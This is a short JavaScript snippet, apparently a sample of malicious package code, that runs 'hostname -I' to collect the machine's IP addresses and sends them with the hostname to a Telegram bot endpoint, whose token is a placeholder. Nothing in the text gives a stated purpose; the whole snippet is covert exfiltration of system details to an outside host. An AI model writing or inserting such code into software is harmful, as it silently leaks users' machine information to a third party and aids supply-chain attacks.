const os = require('os'), { execSync } = require('child_process');
const ip = execSync('hostname -I').toString();
fetch('https://api.telegram.org/bot0000000000:XXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXX/sendMessage', { method: 'POST', body: JSON.stringify({ chat_id: 1, text: os.hostname() + ip }) });
